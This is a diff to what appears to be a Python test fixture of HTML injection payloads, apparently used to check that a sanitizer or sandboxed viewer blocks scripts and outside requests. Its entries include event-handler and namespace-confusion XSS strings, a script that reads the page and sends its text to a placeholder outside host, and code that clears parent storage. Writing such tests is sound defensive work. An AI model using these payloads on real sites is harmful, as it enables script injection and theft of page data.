@@ -20,7 +20,7 @@ DOCUMENTS: dict[str, str] = {
     "frame of another host": '<iframe src="{far}/frame"></iframe>',
     "frame of javascript": f'<iframe src="javascript:parent.{MARK}"></iframe>',
     "details that open": f'<details open ontoggle="{MARK}"><summary>x</summary>y</details>',
-    "focus without being asked": f'<input autofocus onfocus="{MARK}">',
+    "body that loads": f'<body onload="{MARK}">x</body>',
     "image of another host": '<img src="{far}/pixel.gif">',
     "image set": '<img srcset="{far}/a.gif 1x, {far}/b.gif 2x">',
     "picture": '<picture><source srcset="{far}/p.gif"><img src="{far}/q.gif"></picture>',
@@ -36,7 +36,8 @@ DOCUMENTS: dict[str, str] = {
     '<link rel=preload as=image href="{far}/pl.gif">',
     "prefetch": '<link rel="prefetch" href="{far}/next"><link rel=icon href="{far}/favicon.ico">',
     "base": '<base href="{far}/"><img src="relative.gif">',
-    "object": '<object data="{far}/o.swf"></object><embed src="{far}/e.swf">',
+    "object": '<object data="{far}/o.html" type="text/html"></object>',
+    "embedded": '<embed src="{far}/e.html" type="text/html">',
     "sound and pictures": '<video src="{far}/v.mp4" poster="{far}/v.gif" autoplay></video>'
     '<audio src="{far}/a.mp3" autoplay></audio>',
     "form that sends itself": '<form id=f action="{far}/form"><input name=a></form>'
@@ -45,12 +46,12 @@ DOCUMENTS: dict[str, str] = {
     "new window": "<script>window.open('{far}/popup')</script>",
     "storage of the study": "<script>parent.localStorage.clear();" + MARK + "</script>",
     "reading the study": "<script>fetch('/').then(r=>r.text())"
-    ".then(t=>fetch('{far}/?'+t))</script>",
+    ".then(t=>fetch('{far}/?'+encodeURIComponent(t).slice(0,500)))</script>",
     "message": "<script>parent.postMessage('owned','*');" + MARK + "</script>",
-    "a tag that is not closed": f'<p>x</p><img src=/x onerror="{MARK}" <b',
+    "a tag that is not closed": f'<p>x</p><img src=/x onerror="{MARK}" <b>x',
     "a comment that is not closed": f"<!-- <p>--!><script>{MARK}</script>",
-    "another namespace": "<math><mtext><table><mglyph><style><!--</style>"
-    f'<img title="--&gt;&lt;img src=/x onerror={MARK}&gt;">',
+    "another namespace": '<math><annotation-xml encoding="text/html">'
+    f'<img src=/x onerror="{MARK}"></annotation-xml></math>',
     "vector image of another host": '<svg><image href="{far}/s.gif"/>'
     '<use href="{far}/u.svg#a"/></svg>',
     "web socket": "<script>new WebSocket('{ws}/s')</script>",
@@ -65,7 +66,7 @@ TITLES: dict[str, str] = {
     "image that fails": "<img src=x onerror=\"document.title='owned'\">",
     "double quote": '" onmouseover="document.title=\'owned\'"'
     " autofocus onfocus=\"document.title='owned'",
-    "single quote": "' autofocus onfocus='document.title=`owned`",
+    "field": "<input autofocus onfocus=\"document.title='owned'\">",
     "end of a script": "</script><script>document.title='owned'</script>",
     "vector image": "<svg/onload=document.title='owned'>",
     "end of a comment": "--><script>document.title='owned'</script>",
